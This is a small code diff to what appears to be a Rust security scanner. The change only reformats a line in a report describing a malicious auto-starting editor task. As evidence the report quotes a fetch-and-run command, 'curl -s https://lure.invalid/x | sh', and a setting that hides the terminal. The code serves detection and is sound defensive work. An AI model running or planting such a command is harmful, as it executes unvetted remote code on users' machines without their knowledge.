@@ -81,7 +81,8 @@ pub fn block() -> Report {
     task.moment = Some(Moment::Open);
     task.message = "The task `env` starts by itself and gives a file from the network to a shell".into();
     task.primary = evidence(12, 20, "curl -s https://lure.invalid/x | sh");
-    task.related = vec![Evidence { label: "and hides its terminal".into(), ..evidence(14, 9, "\"reveal\": \"never\"") }];
+    task.related =
+        vec![Evidence { label: "and hides its terminal".into(), ..evidence(14, 9, "\"reveal\": \"never\"") }];
     task.behaviours = vec![Behaviour::Fetches, Behaviour::Executes, Behaviour::Autostarts];
     task.concealments = vec![Concealment::HiddenWindow, Concealment::PerPlatform];
     task.chain = vec![
